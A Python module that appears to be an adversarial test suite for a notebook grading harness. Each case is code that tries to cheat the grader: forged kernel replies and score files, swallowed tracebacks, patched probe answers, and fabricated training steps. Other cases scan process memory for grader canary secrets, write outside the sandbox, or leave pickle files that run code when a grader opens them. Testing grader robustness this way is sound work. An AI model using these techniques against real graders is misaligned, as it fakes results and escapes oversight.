"""Attacks on the channel: the kernel's replies, our pipes, probe and recorder in its process."""

from __future__ import annotations

from attack import WALLED, Attack

UNANSWERED = {"Q2.3.0": 0.0, "Q2.3.1": 0.0, "Q2.3.2": 0.0, "V3": 0.0, "V4": 0.0, "V5": 0.0}
"""No question could be answered, which the notebook did to itself."""

UNRECORDED = {"Q2.3.2": 0.0, "V3": 4.0, "V4": 3.0}
"""A recording that cannot be read is none, which the notebook did to itself."""

FORGED_STEP = """
import gc, sys
Recorder = sys.modules["inside.recorder"].Recorder
watch = next(o for o in gc.get_objects() if isinstance(o, Recorder))
watch.count += 1
watch.head.append({{"kind": "step", "modules": [0], "args": {{}}, "cell": 4, "n": watch.count}})
last = [event for event in watch.head if event["kind"] == "forward"][-1]
last["state"], last["steps"] = 77, {steps}
watch.encode_again = lambda: None
"""

CHANNEL = (
    Attack(
        rows=(3,),
        name="execution-replaced",
        tries="the kernel's execute answers ok to everything, once all has run",
        where="last",
        code="""
async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}

shell = get_ipython()
object.__setattr__(shell.kernel, "do_execute", do_execute)
object.__setattr__(shell, "run_cell_async", do_execute)
""",
    ),
    Attack(
        rows=(3,),
        name="failures-hidden",
        tries="a cell that raises is told as one that ran: the shell swallows every traceback",
        code="""
shell = get_ipython()
object.__setattr__(shell, "showtraceback", lambda *args, **kwargs: None)
object.__setattr__(shell, "_showtraceback", lambda *args, **kwargs: None)
""",
        base="raises",
        concedes={"V1": 6},
    ),
    Attack(
        rows=(8,),
        name="forged-replies",
        tries="forged replies, results and pictures are signed with the session's own key",
        where="last",
        code="""
kernel = get_ipython().kernel
parent = kernel.get_parent()
for kind, content in (
    ("display_data", {"data": {"text/plain": "Score: 80/80", "text/html": "<b>80</b>"}}),
    ("execute_result", {"data": {"text/plain": "80"}, "execution_count": 1}),
    ("execute_reply", {"status": "ok", "execution_count": 99}),
    ("status", {"execution_state": "idle"}),
):
    kernel.session.send(kernel.iopub_socket, kind, {"metadata": {}, **content}, parent=parent)
""",
    ),
    Attack(
        rows=(9,),
        name="scribbled-pipes",
        tries="bytes that look like frames are written to every pipe of the process",
        where="last",
        code="""
import json, os, stat, struct

head = json.dumps({"id": "", "nonce": "0" * 16, "status": "ok", "points": 80}).encode()
frame = struct.pack("<Q", 4 + len(head)) + struct.pack("<I", len(head)) + head
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.set_blocking(fd, False)
            os.write(fd, frame * 3)
            os.set_blocking(fd, True)
    except OSError:
        pass
""",
        base="still",
        costs=UNANSWERED,
    ),
    Attack(
        rows=(9, 38),
        name="probe-answers-for-us",
        tries="the probe's own function is replaced: every question is answered with nice numbers",
        where="last",
        code="""
import sys, numpy
probe, frames = sys.modules["inside.probe"], sys.modules["inside.frames"]
honest = probe.answer

def answer(notebook, question, arrays):
    if question["kind"] != "forward":
        return honest(notebook, question, arrays)
    rows = {}
    for place, (key, chosen) in enumerate(question["params"]["calls"]):
        given = arrays[question["arrays"][key]]
        rows[f"out{place}"] = numpy.full((len(given), 128), 128 ** -0.5, dtype="float32")
    data = {"class": "SimpleEncoder", "how": "made", "parameters": [], "passed": True}
    data["calls"] = [{"unmatched": []} for _ in question["params"]["calls"]]
    head = {"id": question["id"], "nonce": question["nonce"], "status": "ok", "data": data}
    return frames.pack_body(head, rows)

probe.answer = answer
""",
        concedes={"V4": 3},
    ),
    Attack(
        rows=(9,),
        name="answers-without-end",
        tries="the first question is answered again and again, so that asking never ends",
        where="last",
        code="""
import sys, time
probe, frames = sys.modules["inside.probe"], sys.modules["inside.frames"]

def serve_batch(notebook, header, arrays, out, *, trusted):
    first = header["questions"][0]
    head = {"id": first["id"], "nonce": first["nonce"], "status": "ok", "data": {}}
    for _ in range(600):
        frames.send(out, head)
        time.sleep(0.1)

probe.serve_batch = serve_batch
""",
        costs={"Q2.3.0": 0, "V3": 0, "V5": 0},
    ),
    Attack(
        rows=(9,),
        name="malformed-answers",
        tries="every question is answered with data of another form than any check reads",
        where="last",
        code="""
import sys, numpy
probe, frames = sys.modules["inside.probe"], sys.modules["inside.frames"]
honest = probe.answer

def answer(notebook, question, arrays):
    if question["kind"] != "forward":
        return honest(notebook, question, arrays)
    strange = [7, None, "\\ud800", {"a": 10 ** 300}, [], True] * 3
    data = {"calls": strange, "class": 7, "how": None, "parameters": "x"}
    head = {"id": question["id"], "nonce": question["nonce"], "status": "ok", "data": data}
    rows = {"out0": numpy.zeros(()), "out1": numpy.zeros((0, 128)), "out2": numpy.ones(3, "?")}
    return frames.pack_body(head, rows)

probe.answer = answer
""",
        base="still",
        costs={"Q2.3.1": 0, "V3": 1, "V4": 2},
    ),
    Attack(
        rows=(9,),
        name="steps-backwards",
        tries="the recorder is told of a negative number of steps, which would undo the training",
        base="still",
        where="last",
        code=FORGED_STEP.format(steps=-1),
        costs=UNRECORDED,
    ),
    Attack(
        rows=(9,),
        name="training-that-never-was",
        tries="the recorder is told of steps that the optimizer never took",
        base="still",
        where="last",
        code=FORGED_STEP.format(steps=1),
        concedes={"V6": 1},
    ),
    Attack(
        rows=(10,),
        name="printed-scores",
        tries="scores are printed and written in the forms that other graders read",
        where="last",
        code="""
import json
from pathlib import Path

scores = {"score": 80, "max_score": 80, "tests": [{"name": "all", "score": 80}]}
print("Score: 80/80", "Total: 100%", "All tests passed!", json.dumps(scores), sep="\\n")
for name in ("results.json", "results.pkl", "score.txt", "gradebook.csv", "grades.json"):
    Path(name).write_text(json.dumps(scores))
scores
""",
    ),
    Attack(
        rows=(12,),
        name="written-at-exit",
        tries="what runs at exit writes a file outside its folder",
        where="last",
        code="""
import atexit, weakref

def leave():
    with open(WORLD["home"] + "/escaped-" + WORLD["name"], "w") as file:
        file.write("80")

atexit.register(leave)
weakref.finalize(encoder, leave)
""",
    ),
    Attack(
        rows=(16,),
        name="memory-searched",
        tries="everything in memory is searched for what only the reference and the grader hold",
        where="last",
        tells=True,
        code="""
import gc, re, sys

SECRET = re.compile(rb"canary[0-9a-f]{32}")

def search():
    hits = set()
    for value in gc.get_objects():
        if isinstance(value, dict):
            for part in list(value.values()):
                if isinstance(part, str) and len(part) < 10**6:
                    hits.update(SECRET.findall(part.encode("utf-8", "replace")))
    left = 256 * 2**20
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, mode = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if mode.startswith("rw") and end - start <= min(left, 64 * 2**20):
                try:
                    memory.seek(start)
                    hits.update(SECRET.findall(memory.read(end - start)))
                    left -= end - start
                except OSError:
                    pass
    if not hits:
        raise LookupError("nothing of the grader's is in memory")
    return sorted(hits)

def walk_frames():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if SECRET.search(repr(value)[:10_000].encode("utf-8", "replace")):
                return value
        frame = frame.f_back
    raise LookupError("no frame holds it")

attempt("memory", search)
attempt("frames", walk_frames)
""",
    ),
    Attack(
        rows=(38,),
        name="modules-removed",
        tries="NumPy, json and struct are taken out of the process, so that nothing can be asked",
        base="still",
        where="last",
        code="""
import sys
for name in ("numpy", "json", "struct", "safetensors", "safetensors.numpy", "inside.frames"):
    sys.modules[name] = None
""",
        costs=UNANSWERED,
    ),
    Attack(
        rows=(39,),
        name="pickles-left-behind",
        tries="pickles and torch files that run code when they are opened lie where graders look",
        holds_at=WALLED,
        where="last",
        tells=True,
        code="""
import os, pickle, pathlib

class Bomb:
    def __reduce__(self):
        return (os.mkdir, (WORLD["home"] + "/escaped-" + WORLD["name"],))

def leave(folder):
    for name in ("results.pkl", "log.pkl", "model.pt", "weights.joblib"):
        pathlib.Path(folder, name).write_bytes(pickle.dumps(Bomb()))

for name in ("results.pkl", "model.pt"):
    pathlib.Path(name).write_bytes(pickle.dumps(Bomb()))
attempt("beside the submissions", lambda: leave(WORLD["submissions"]))
""",
    ),
)
